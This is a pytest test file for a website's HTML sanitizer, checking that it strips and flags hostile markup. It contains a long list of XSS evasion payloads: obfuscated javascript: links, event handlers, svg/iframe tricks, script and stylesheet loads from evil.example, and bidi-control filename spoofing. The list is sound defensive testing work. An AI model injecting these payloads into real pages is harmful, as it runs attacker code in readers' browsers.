"""What readers get from a text whatever it holds, and what writers hear about it (hub.outputs.sanitize, hub.outputs.page_html).

Pure and fast: HTML strings in, HTML strings and findings out; no build, no browser. The hostile vectors
are the classic ones of the OWASP XSS filter evasion cheat sheet and of HTML parsing quirks.
"""

from __future__ import annotations

import re
from pathlib import Path

import lxml.html
import markdown
import pytest
from lxml import etree

from hub.outputs import sanitize
from hub.outputs.page_html import MARKERS, Responsive, problems, published
from hub.site import pictures

FORBIDDEN_ELEMENTS = frozenset({
    "script", "style", "iframe", "frame", "frameset", "portal", "object", "embed", "applet", "form", "input",
    "button", "textarea", "select", "svg", "math", "link", "meta", "base", "template", "noscript", "audio", "video",
    "source",
})
FORBIDDEN_ATTRIBUTES = frozenset({"style", "srcset", "formaction", "action", "srcdoc", "xlink:href", "background"})
UNSAFE_SCHEMES = ("javascript:", "vbscript:", "data:")
URL_IGNORED = re.compile(r"[\t\n\r]")
C0_AND_SPACE = "".join(map(chr, range(0x21))) + "\x7f"
SCHEME = re.compile(r"^[a-z][a-z0-9+.\-]*:")

ATTACKS = [
    pytest.param('<a href=" &#14; javascript:alert(1)">x</a>', id="href-leading-control-entity-spaced"),
    pytest.param('<a href="&#14;javascript:alert(1)">x</a>', id="href-leading-control-entity"),
    pytest.param('<a href="&#1;javascript:alert(1)">x</a>', id="href-leading-soh-entity"),
    pytest.param("<body onload=alert(1)>x</body>", id="body-onload"),
    pytest.param('<img srcset="javascript:alert(1)">', id="img-srcset"),
    pytest.param("<ScRiPt>alert(1)</sCrIpT>", id="script-mixed-case"),
    pytest.param("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", id="script-src"),
    pytest.param("<<script>alert(1)//<</script>", id="script-double-open"),
    pytest.param("<IMG SRC=JaVaScRiPt:alert(1)>", id="img-javascript-mixed-case"),
    pytest.param('<a href="javascript:alert(1)">x</a>', id="href-javascript"),
    pytest.param("<a href=javascript:alert(1)>x</a>", id="href-javascript-unquoted"),
    pytest.param('<a href="  JAVASCRIPT:alert(1)">x</a>', id="href-javascript-spaces-upper"),
    pytest.param('<a href="&#106;avascript:alert(1)">x</a>', id="href-decimal-entity"),
    pytest.param('<a href="&#x6A;avascript:alert(1)">x</a>', id="href-hex-entity"),
    pytest.param('<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
                 '&#0000116&#0000058alert(1)">x</a>', id="href-entities-without-semicolons"),
    pytest.param('<a href="&#0000106avascript:alert(1)">x</a>', id="href-padded-entity"),
    pytest.param('<a href="javas&#99;ript:alert(1)">x</a>', id="href-entity-inside"),
    pytest.param('<a href="javascript&colon;alert(1)">x</a>', id="href-named-colon"),
    pytest.param('<a href="java\tscript:alert(1)">x</a>', id="href-tab-inside"),
    pytest.param('<a href="java\nscript:alert(1)">x</a>', id="href-newline-inside"),
    pytest.param('<a href="jav&#x09;ascript:alert(1)">x</a>', id="href-tab-entity-inside"),
    pytest.param('<a href="jav&#x0D;ascript:alert(1)">x</a>', id="href-cr-entity-inside"),
    pytest.param('<a href="java&Tab;script:alert(1)">x</a>', id="href-named-tab-inside"),
    pytest.param('<a href="java&NewLine;script:alert(1)">x</a>', id="href-named-newline-inside"),
    pytest.param('<a href="&#x20;javascript:alert(1)">x</a>', id="href-leading-space-entity"),
    pytest.param('<a href="&#x0A;javascript:alert(1)">x</a>', id="href-leading-newline-entity"),
    pytest.param('<a href="&Tab;javascript:alert(1)">x</a>', id="href-leading-named-tab"),
    pytest.param('<a href="\x01javascript:alert(1)">x</a>', id="href-leading-raw-control"),
    pytest.param('<a href="\x00javascript:alert(1)">x</a>', id="href-leading-nul"),
    pytest.param('<a href="vbscript:msgbox(1)">x</a>', id="href-vbscript"),
    pytest.param('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', id="href-data-html"),
    pytest.param('<a href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">x</a>', id="href-data-svg"),
    pytest.param('<img src="data:image/png;base64,iVBORw0KGgo=">', id="img-data"),
    pytest.param('<table background="javascript:alert(1)"><tr><td>x</td></tr></table>', id="table-background"),
    pytest.param('<blockquote cite="javascript:alert(1)">x</blockquote>', id="blockquote-cite"),
    pytest.param("<svg onload=alert(1)>", id="svg-onload"),
    pytest.param("<svg/onload=alert(1)>", id="svg-slash-onload"),
    pytest.param("<svg><script>alert(1)</script></svg>", id="svg-script"),
    pytest.param('<math><a xlink:href="javascript:alert(1)">x</a></math>', id="math-xlink"),
    pytest.param("<button formaction=javascript:alert(1)>x</button>", id="button-formaction"),
    pytest.param('<form action="javascript:alert(1)"><input type=submit></form>', id="form-action"),
    pytest.param("<input onfocus=alert(1) autofocus>", id="input-onfocus"),
    pytest.param('<isindex action="javascript:alert(1)" type=image>', id="isindex-action"),
    pytest.param('<iframe src="https://evil.example/"></iframe>', id="iframe-src"),
    pytest.param('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', id="iframe-srcdoc"),
    pytest.param('<frameset><frame src="javascript:alert(1)"></frameset>', id="frame"),
    pytest.param('<portal src="https://evil.example/"></portal>', id="portal"),
    pytest.param('<object data="javascript:alert(1)"></object>', id="object-data"),
    pytest.param('<embed src="https://evil.example/x.swf">', id="embed-src"),
    pytest.param('<applet code="x"></applet>', id="applet"),
    pytest.param("<video><source onerror=alert(1)></video>", id="video-source-onerror"),
    pytest.param("<audio src=x onerror=alert(1)>", id="audio-onerror"),
    pytest.param("<textarea><script>alert(1)</script></textarea>", id="textarea-script"),
    pytest.param('<style>@import "https://evil.example/x.css";</style>', id="style-import"),
    pytest.param('<link rel=stylesheet href="https://evil.example/x.css">', id="link-stylesheet"),
    pytest.param('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', id="meta-refresh"),
    pytest.param('<base href="https://evil.example/">', id="base-href"),
    pytest.param("<details open ontoggle=alert(1)>x</details>", id="details-ontoggle"),
    pytest.param('<div onmouseover="alert(1)">x</div>', id="div-onmouseover"),
    pytest.param("<p onclick=alert(1)>x</p>", id="p-onclick"),
    pytest.param("<marquee onstart=alert(1)>x</marquee>", id="marquee-onstart"),
    pytest.param('<time datetime="x" onmouseover=alert(1)>x</time>', id="allowed-element-handler"),
    pytest.param('<a href="https://ok.example/" onclick="alert(1)">x</a>', id="good-link-handler"),
    pytest.param('<img src="x" onerror="alert(1)">', id="img-onerror"),
    pytest.param("<IMG SRC=x ONERROR=alert(1)>", id="img-onerror-upper"),
    pytest.param("<img src=x onerror=alert`1`>", id="img-onerror-template-call"),
    pytest.param('<img/src="x"/onerror=alert(1)>', id="img-slash-separators"),
    pytest.param("<img src=x` onerror=alert(1)>", id="img-backtick-unquoted"),
    pytest.param('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', id="noscript-breakout"),
    pytest.param("<template><script>alert(1)</script></template>", id="template-script"),
    pytest.param('<img src="http://evil.example/t.png">', id="img-external-http"),
    pytest.param('<img src="//evil.example/t.png">', id="img-external-protocol-relative"),
    pytest.param('<img src="&#x2F;&#x2F;evil.example/t.png">', id="img-external-entities"),
    pytest.param('<img src="https:evil.example/t.png">', id="img-external-no-slashes"),
    pytest.param('<img src="\\\\evil.example/t.png">', id="img-external-backslashes"),
    pytest.param('<img src="/\\evil.example/t.png">', id="img-external-slash-backslash"),
]
"""Attacks: `clean` makes them harmless and `inspect` names each one as an error, which stops the build."""

HARMLESS = [
    pytest.param("<scr<script>ipt>alert(1)</scr</script>ipt>", id="nested-broken-tags"),
    pytest.param('<a href="java\x00script:alert(1)">x</a>', id="href-nul-inside"),
    pytest.param('<a href="javascript\x00:alert(1)">x</a>', id="href-nul-before-colon"),
    pytest.param("<img src=`javascript:alert(1)`>", id="img-backtick-quoted"),
    pytest.param("<a href=`javascript:alert(1)`>x</a>", id="href-backtick-quoted"),
    pytest.param('<img src="x` onerror=alert(1)>', id="img-unterminated-quote"),
    pytest.param("<img/src=x/onerror=alert(1)>", id="img-slash-unquoted"),
    pytest.param("<xmp><script>alert(1)</script></xmp>", id="xmp-script"),
    pytest.param('<div style="background:url(javascript:alert(1))">x</div>', id="style-url-javascript"),
    pytest.param('<div style="width: expression(alert(1))">x</div>', id="style-expression"),
    pytest.param('<div style="behavior:url(x.htc)">x</div>', id="style-behavior"),
    pytest.param('<xss style="xss:expression(alert(1))">x</xss>', id="unknown-element-style"),
]
"""Vectors that fool old browsers or naive filters but that an HTML5 parser reads as text, an unknown tag, a relative
URL or a `style` (a warning): cleaned all the same."""


def browser_url(value: str) -> str:
    """A URL as a browser reads its scheme: tab, newline and CR gone, C0 controls and spaces trimmed, lowercased."""
    return URL_IGNORED.sub("", value).strip(C0_AND_SPACE).strip().lower()


def parse(html: str) -> lxml.html.HtmlElement:
    return lxml.html.fragment_fromstring(html, create_parent="div")


def assert_safe(html: str) -> None:
    """Nothing in `html` runs code, loads another site or restyles the page."""
    for element in parse(html).iter():
        if element.tag is etree.Comment:
            assert element.text.strip() in {marker[4:-3].strip() for marker in MARKERS}, html
            continue
        tag = str(element.tag).lower()
        assert tag not in FORBIDDEN_ELEMENTS, html
        for name, value in element.attrib.items():
            name = name.lower()
            assert not name.startswith("on"), html
            assert name not in FORBIDDEN_ATTRIBUTES, html
            if name in {"href", "src", "cite"}:
                url = browser_url(value)
                assert not url.startswith(UNSAFE_SCHEMES), html
                if tag == "img" and name == "src":
                    assert not SCHEME.match(url), html
                    assert not url.startswith(("//", "\\\\", "/\\", "\\/")), html


def errors(html: str, keep: tuple[str, ...] = ()) -> list[sanitize.Finding]:
    return [finding for finding in sanitize.inspect(html, keep) if finding.severity == "error"]


@pytest.mark.parametrize("vector", ATTACKS + HARMLESS)
def test_clean_leaves_nothing_hostile(vector: str) -> None:
    """Whatever a text holds, a reader gets no script, handler, frame, form, style or foreign picture."""
    assert_safe(sanitize.clean(vector))


@pytest.mark.parametrize("vector", ATTACKS + HARMLESS)
def test_clean_is_stable(vector: str) -> None:
    """Cleaning what was cleaned changes nothing: the feeds and e-mail may clean a page's HTML again."""
    once = sanitize.clean(vector)
    assert sanitize.clean(once) == once


@pytest.mark.parametrize("vector", ATTACKS)
def test_inspect_names_attacks_as_errors(vector: str) -> None:
    """A writer (or a reviewer) learns that the text holds an attack, and the build stops on it."""
    found = errors(vector)
    assert found, vector
    for finding in found:
        assert finding.message and finding.hint and finding.needles


def test_there_are_enough_vectors() -> None:
    """The safety list covers the cheat sheet, not a token sample."""
    assert len(ATTACKS) + len(HARMLESS) >= 40


def test_script_content_goes_with_it() -> None:
    """The code of a dropped element is not left as text on the page either."""
    out = sanitize.clean("<p>До</p><script>alert('secret')</script><style>p{}</style><p>Після</p>")
    assert "alert" not in out and "p{}" not in out
    assert [p.text for p in parse(out).iter("p")] == ["До", "Після"]


BENIGN = """\
<h2 id="plan">План на «осінь»</h2>
<p>Текст з апострофом: обʼєднання, мовʼю; а також &lt;тег&gt; і 5 &amp; 6.</p>
<ol start="3"><li>третій</li><li value="7">сьомий</li></ol>
<ul><li><strong>жирний</strong>, <em>курсив</em>, <code>код</code>, <mark>позначка</mark></li></ul>
<table>
<thead><tr><th scope="col" colspan="2">Заголовок</th></tr></thead>
<tbody><tr><td>1</td><td rowspan="2">2</td></tr><tr><td>3</td></tr></tbody>
</table>
<p><a href="https://example.org/path?q=1&amp;r=2">https</a> <a href="mailto:info@example.org">пошта</a>
<a href="tel:+380671234567">телефон</a> <a href="../../2025/other/">відносне</a> <a href="#plan">якір</a></p>
<figure><img alt="Учасники тренінгу" src="photo.jpg"><figcaption>Підпис</figcaption></figure>
<blockquote><p>Цитата</p></blockquote>
<pre><code class="language-python">print("&lt;привіт&gt;")
</code></pre>
<details open=""><summary>Більше</summary><p>Подробиці</p></details>
<div class="admonition note"><p class="admonition-title">Зауважте</p><p>Нотатка</p></div>
<p>Зноска<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>.</p>
<h3 id="x">Розділ<a class="headerlink" href="#x" title="Permanent link">¶</a></h3>
<p><time datetime="2026-11-23">23 листопада</time> <abbr title="Громадська організація">ГО</abbr></p>
<div class="footnote"><hr><ol><li id="fn:1"><p>Джерело&nbsp;<a class="footnote-backref" href="#fnref:1" \
title="Jump back to footnote 1 in the text">↩</a></p></li></ol></div>
"""


def shape(html: str) -> list[tuple[str, dict[str, str], str, str]]:
    """Every element of `html` with its attributes, text and tail: what a reader sees and links point to."""
    return [(str(element.tag), dict(element.attrib), element.text or "", element.tail or "")
            for element in parse(html).iter()]


def test_benign_markup_survives() -> None:
    """What Markdown and Material's extensions write reaches readers as written: text, ids, classes, links."""
    out = sanitize.clean(BENIGN)
    assert shape(out) == shape(BENIGN)
    tree = parse(out)
    assert tree.get_element_by_id("fnref:1").tag == "sup"
    assert [a.get("href") for a in tree.iter("a")] == [
        "https://example.org/path?q=1&r=2", "mailto:info@example.org", "tel:+380671234567", "../../2025/other/",
        "#plan", "#fn:1", "#x", "#fnref:1"]
    assert tree.find_class("headerlink")[0].get("title") == "Permanent link"
    assert tree.find_class("admonition-title")[0].text == "Зауважте"
    assert tree.find(".//img").attrib == {"alt": "Учасники тренінгу", "src": "photo.jpg"}
    assert "«осінь»" in tree.text_content() and "обʼєднання" in tree.text_content()
    assert "<тег>" in tree.text_content() and 'print("<привіт>")' in tree.text_content()


def test_benign_markup_brings_no_findings() -> None:
    """A writer who writes plain Markdown hears nothing from the check."""
    assert sanitize.inspect(BENIGN) == []
    assert sanitize.inspect("") == [] and sanitize.inspect("  \n") == []


WORD = """\
<!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]-->
<p class="MsoNormal" style="margin-bottom:0cm;line-height:normal"><span lang="UK" style="font-family:Calibri">\
<font face="Arial" color="#ff0000">Важливий текст</font></span><o:p></o:p></p>
<p align="center"><span style="mso-bidi-font-weight:bold"><b>Жирний</b></span></p>
"""


def test_pasted_word_markup_warns_and_is_cleaned() -> None:
    """Pasting from a word processor is no attack: warnings only, and readers get the text without its styling."""
    findings = sanitize.inspect(WORD)
    assert findings
    assert {finding.severity for finding in findings} == {"warning"}
    assert {"style-attribute", "markup-removed", "comment"} <= {finding.code for finding in findings}
    out = sanitize.clean(WORD)
    assert_safe(out)
    tree = parse(out)
    assert not tree.xpath("//font") and not tree.xpath("//*[@style or @align or @face or @color]")
    assert tree.xpath("//span/@lang") == ["UK"]
    assert tree.find_class("MsoNormal")
    assert "Важливий текст" in tree.text_content() and "Жирний" in tree.text_content()
    assert "mso 9" not in out and "OfficeDocumentSettings" not in out


def test_markers_are_kept() -> None:
    """A hand-written page's `<!-- hub:feeds -->` stays for the site to fill in; without `keep` it goes."""
    html = "<!-- hub:feeds -->\n<p>x</p>"
    assert "<!-- hub:feeds -->" in sanitize.clean(html, keep=list(MARKERS))
    assert "hub:feeds" not in sanitize.clean(html)
    assert sanitize.inspect(html, keep=list(MARKERS)) == []
    page = "".join(f"<h2>Частина {number}</h2>\n{marker}\n" for number, marker in enumerate(MARKERS))
    out = sanitize.clean(page, keep=list(MARKERS))
    assert [marker for marker in MARKERS if marker in out] == list(MARKERS)


def test_ordinary_comment_is_removed_and_warned() -> None:
    """A private note in a comment is not published, and the writer is told that the repository shows it."""
    html = "<p>Зателефонуйте</p>\n<!-- phone 067 123 45 67, ask for Olena -->\n<p>нам</p>"
    out = sanitize.clean(html, keep=list(MARKERS))
    assert "067" not in out and "Olena" not in out and "<!--" not in out
    findings = sanitize.inspect(html, keep=list(MARKERS))
    assert [(finding.code, finding.severity) for finding in findings] == [("comment", "warning")]


@pytest.mark.parametrize("html", [
    '<a title="<!-- hub:feeds -->">x</a>',
    '<img alt="<!-- hub:feeds -->" src="p.jpg">',
    '<a href="<!-- hub:feeds -->">x</a>',
    "<p><code>&lt;!-- hub:feeds --&gt;</code></p>",
])
def test_marker_inside_a_value_or_text_is_no_marker(html: str) -> None:
    """A marker is kept only as an element of its own: written into a value or code, it never becomes a comment."""
    out = sanitize.clean(html, keep=list(MARKERS))
    assert "<!-- hub:feeds -->" not in out
    assert not [node for node in parse(out).iter() if node.tag is etree.Comment]


def test_markers_side_by_side_or_in_a_sentence_are_all_kept() -> None:
    """Two markers with nothing between them both show their part of the site; in a sentence, it stands after it."""
    out = sanitize.clean("<!-- hub:latest-news -->\n\n<!-- hub:projects -->\n<p>see <!-- hub:feeds --> here</p>",
                         keep=list(MARKERS))
    assert all(marker in out for marker in ("<!-- hub:latest-news -->", "<!-- hub:projects -->", "<!-- hub:feeds -->"))


def test_marker_in_code_stays_text() -> None:
    """A page that documents the marker in code shows it as text."""
    out = sanitize.clean(markdown.markdown("`<!-- hub:feeds -->`"), keep=list(MARKERS))
    assert parse(out).find(".//code").text == "<!-- hub:feeds -->"


SOURCE = """\
# Заголовок

Перший абзац.

<script>alert(1)</script>

Другий абзац із <span style="color:red">кольором</span>.

Посилання [x](&#106;avascript:alert(1)).
"""


def test_problems_name_source_lines(tmp_path: Path) -> None:
    """`hub check` and the build point at the line of the Markdown file where the script and the link stand."""
    source = tmp_path / "index.uk.md"
    source.write_text(SOURCE, encoding="utf-8")
    found = problems(markdown.markdown(SOURCE), source, list(MARKERS))
    by_code = {problem.code: problem for problem in found}
    assert (by_code["script"].line, by_code["script"].severity) == (5, "error")
    assert (by_code["unsafe-link"].line, by_code["unsafe-link"].severity) == (9, "error")
    assert (by_code["style-attribute"].line, by_code["style-attribute"].severity) == (7, "warning")
    assert all(problem.path == source and problem.hint for problem in found)


def test_a_cdata_section_is_a_private_note_found_at_its_line(tmp_path: Path) -> None:
    """HTML reads `<![CDATA[…]]>` in a text as a comment: not published, and the writer is pointed at its line."""
    text = "# Заголовок\n\nПерший абзац.\n\n<![CDATA[телефон мами: 067 123 45 67]]>\n\nОстанній абзац.\n"
    source = tmp_path / "index.uk.md"
    source.write_text(text, encoding="utf-8")
    html = markdown.markdown(text)
    assert "067" not in sanitize.clean(html)
    assert [(problem.code, problem.line) for problem in problems(html, source)] == [("comment", 5)]


@pytest.mark.parametrize("tag", ["audio", "video", "source", "track"])
def test_a_player_is_named_as_itself(tag: str) -> None:
    """A sound or video player is refused under its own name, not as a frame the writer never wrote."""
    findings = sanitize.inspect(f'<{tag} src="https://media.example/clip.mp4"></{tag}>')
    assert [(finding.code, finding.severity) for finding in findings] == [("embedded", "error")]
    assert f"<{tag}>" in findings[0].message and "iframe" not in findings[0].message
    assert findings[0].hint == "link to it instead, like [Watch the video](https://www.youtube.com/watch?v=…)"


@pytest.mark.parametrize("html", ['<pre class="mermaid">graph TD; A--&gt;B</pre>', '<p class="note MERMAID">x</p>',
                                  '<div class=" mermaid ">x</div>'])
def test_no_class_makes_the_theme_fetch_a_program_from_another_website(html: str) -> None:
    """Material draws a `<pre class="mermaid">` with mermaid.js loaded from unpkg.com: the class is never published
    (other classes stay), and the writer is told."""
    out = parse(sanitize.clean(html))
    assert not [node for node in out.iter() if "mermaid" in (node.get("class") or "").lower()]
    assert [node.get("class") for node in out.iter() if node.get("class") is not None] == (["note"] if "note" in html else [])
    assert [(finding.code, finding.severity) for finding in sanitize.inspect(html)] == [("markup-removed", "warning")]
    assert "'mermaid'" in sanitize.inspect(html)[0].message


def test_problems_errors_only(tmp_path: Path) -> None:
    """The build asks for errors only: warnings are for `hub check`."""
    source = tmp_path / "index.uk.md"
    source.write_text(SOURCE, encoding="utf-8")
    found = problems(markdown.markdown(SOURCE), source, list(MARKERS), errors_only=True)
    assert sorted((problem.line, problem.code) for problem in found) == [(5, "script"), (9, "unsafe-link")]
    assert {problem.severity for problem in found} == {"error"}


def test_problems_of_a_clean_text(tmp_path: Path) -> None:
    """A text without anything to clean has no problems, and a missing source only loses the line."""
    source = tmp_path / "index.uk.md"
    source.write_text("# Привіт\n\n<!-- hub:feeds -->\n", encoding="utf-8")
    assert problems(markdown.markdown(source.read_text(encoding="utf-8")), source, list(MARKERS)) == []
    missing = problems("<script>x</script>", tmp_path / "gone.md")
    assert [(problem.code, problem.line) for problem in missing] == [("script", None)]


PICTURE = Responsive(page=pictures.Variant("news/2026/x/photo-page.jpg", 1200, 800, "image/jpeg"),
                     small=pictures.Variant("news/2026/x/photo-small.jpg", 600, 400, "image/jpeg"))


def srcset(value: str) -> dict[str, str]:
    return dict(reversed(candidate.split()) for candidate in value.split(","))


def test_published_pictures_are_responsive() -> None:
    """A picture of the text loads lazily at its size, and phones take the smaller copy."""
    out = published('<p><img alt="a" src="photo-page.jpg"></p>', (), {"photo-page.jpg": PICTURE})
    img = parse(out).find(".//img")
    assert img.get("alt") == "a" and img.get("src") == "photo-page.jpg"
    assert (img.get("width"), img.get("height"), img.get("loading")) == ("1200", "800", "lazy")
    assert srcset(img.get("srcset")) == {"600w": "photo-small.jpg", "1200w": "photo-page.jpg"}
    assert img.get("sizes") == pictures.INLINE_SIZES


def test_published_keeps_folder_in_srcset() -> None:
    """A picture linked through a folder gets its phone copy from the same folder."""
    out = published('<img alt="a" src="../x/photo-page.jpg">', (), {"photo-page.jpg": PICTURE})
    assert srcset(parse(out).find(".//img").get("srcset"))["600w"] == "../x/photo-small.jpg"


def test_an_img_of_the_original_written_in_html_shows_its_published_copy() -> None:
    """MkDocs leads a Markdown picture to its copy, but leaves `<img src="photo.jpg">` as written: the original, which
    is never published, so readers saw a broken picture. It is led to the copy, from the English page too."""
    shown = {"photo-page.jpg": PICTURE, "photo.jpg": PICTURE}
    for page_url, expected in (("news/2026/x/", "photo-page.jpg"), ("en/news/2026/x/", "../../../../news/2026/x/photo-page.jpg")):
        img = parse(published('<p><img alt="a" src="photo.jpg"></p>', (), shown, page_url)).find(".//img")
        assert img.get("src") == expected and srcset(img.get("srcset"))["600w"] == expected.replace("-page", "-small")
    elsewhere = parse(published('<img alt="a" src="../y/photo.jpg">', (), shown, "news/2026/x/")).find(".//img")
    assert elsewhere.get("src") == "../y/photo.jpg", "another folder's file is not this text's picture"


def test_published_leaves_other_pictures() -> None:
    """A picture the map does not know is published as written (cleaned only)."""
    out = published('<p><img alt="b" src="other.jpg" onerror="alert(1)"></p>', (), {"photo-page.jpg": PICTURE})
    assert parse(out).find(".//img").attrib == {"alt": "b", "src": "other.jpg"}


def test_published_cleans() -> None:
    """Pictures or not, the published HTML is the cleaned one, markers kept."""
    html = '<!-- hub:feeds -->\n<p onclick="x()">a</p><script>x()</script><img src="photo-page.jpg" alt="&quot;">'
    out = published(html, list(MARKERS), {"photo-page.jpg": PICTURE})
    tree = parse(out)
    assert not tree.xpath("//script") and not tree.xpath("//@onclick")
    assert "x()" not in out and "<!-- hub:feeds -->" in out
    assert tree.find(".//img").get("alt") == '"'
    assert published(html, list(MARKERS)) == sanitize.clean(html, list(MARKERS))


def test_findings_speak_ukrainian(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HUB_LANG", "uk")
    found = {f.code: f for f in sanitize.inspect('<p style="color: red" onclick="go()">Т</p><script>go()</script>')}
    assert found["script"].message == "елемент <script>: код, написаний у тексті, на сайті ніколи не виконується"
    assert found["event-handler"].message == "атрибут «onclick» у <p> виконує код у браузері читача"
    assert found["style-attribute"].hint == "видаліть його (його часто приносить вставлений текст)"
    player = sanitize.inspect('<iframe src="https://www.youtube.com/embed/x"></iframe>')[0]
    assert player.hint == "натомість дайте на нього посилання, як-от [Дивитися відео](https://www.youtube.com/watch?v=…)"


def test_controls_of_the_texts_direction_are_errors_and_never_published() -> None:
    """`<a>звіт \u202efdp.exe</a>` shows the file's name turned around (Trojan Source): an error for the writer, and gone
    from whatever is published, wherever in the text they stand."""
    html = '<p>Звіт <a href="https://example.org/">\u202efdp.exe\u202c</a> і \u2067ще\u2069.</p>'
    assert [f.code for f in sanitize.inspect(html) if f.severity == "error"] == ["direction-control"] * 4
    cleaned = sanitize.clean(html)
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", cleaned)
    assert "fdp.exe" in cleaned and "ще" in cleaned, "the words stay"
